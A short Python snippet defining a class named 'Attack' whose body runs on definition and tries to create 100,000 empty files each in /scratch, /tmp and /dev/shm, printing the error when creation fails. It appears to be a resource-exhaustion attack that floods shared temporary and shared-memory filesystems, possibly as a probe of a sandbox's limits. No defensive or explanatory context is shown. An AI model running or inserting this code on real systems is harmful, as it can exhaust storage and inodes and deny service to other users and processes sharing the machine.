class Attack:
    import os

    for _folder in ("/scratch", "/tmp", "/dev/shm"):
        try:
            for _number in range(100_000):
                os.close(os.open(f"{_folder}/{_number}", os.O_CREAT | os.O_EXCL))
        except OSError as _error:
            print(_folder, _number, _error)
